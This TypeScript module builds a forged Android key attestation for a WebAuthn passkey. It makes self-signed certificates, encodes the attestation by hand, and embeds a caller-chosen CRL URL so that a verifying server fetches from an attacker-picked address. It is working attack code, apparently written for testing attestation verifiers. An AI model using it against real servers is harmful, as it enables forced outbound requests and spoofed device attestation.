/**
 * What an Android phone would say of a passkey ('android-key'), with certificates of the attacker's own making: whoever checks
 * them is told to fetch the list of revoked ones from `listUrl`.
 */
import 'reflect-metadata' // Must come before x509.
import { webcrypto } from 'node:crypto'
import * as x509 from '@peculiar/x509'
import type { Statement } from './soft-passkey.ts'

const algorithm = { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' }
const keyDescription = '1.3.6.1.4.1.11129.2.1.17'

export function androidStatement(listUrl: string): Statement {
  return async (clientDataHash, { publicKey }) => {
    const authority = await webcrypto.subtle.generateKey(algorithm, true, ['sign', 'verify'])
    const root = await x509.X509CertificateGenerator.createSelfSigned({ name: 'CN=root', keys: authority })
    const leaf = await x509.X509CertificateGenerator.create({
      subject: 'CN=leaf',
      issuer: 'CN=root',
      publicKey: await webcrypto.subtle.importKey('jwk', publicKey.export({ format: 'jwk' }), algorithm, true, [
        'verify',
      ]),
      signingKey: authority.privateKey,
      extensions: [
        new x509.CRLDistributionPointsExtension([listUrl]),
        // KeyDescription: versions and levels, the challenge, no unique id, two empty lists.
        new x509.Extension(
          keyDescription,
          false,
          Buffer.concat([
            Buffer.from('30340201030a01010201030a01010420', 'hex'),
            clientDataHash,
            Buffer.from('040030003000', 'hex'),
          ]),
        ),
      ],
    })
    const bytes = (content: ArrayBuffer) =>
      Buffer.concat([Buffer.from([0x59, content.byteLength >> 8, content.byteLength & 255]), Buffer.from(content)])
    const text = (content: string) => Buffer.concat([Buffer.from([0x60 + content.length]), Buffer.from(content)])
    return Buffer.concat([
      ...[text('fmt'), text('android-key'), text('attStmt'), Buffer.from([0xa3])],
      ...[text('alg'), Buffer.from([0x26]), text('sig'), Buffer.from([0x41, 0])],
      ...[text('x5c'), Buffer.from([0x82]), bytes(leaf.rawData), bytes(root.rawData)],
    ])
  }
}
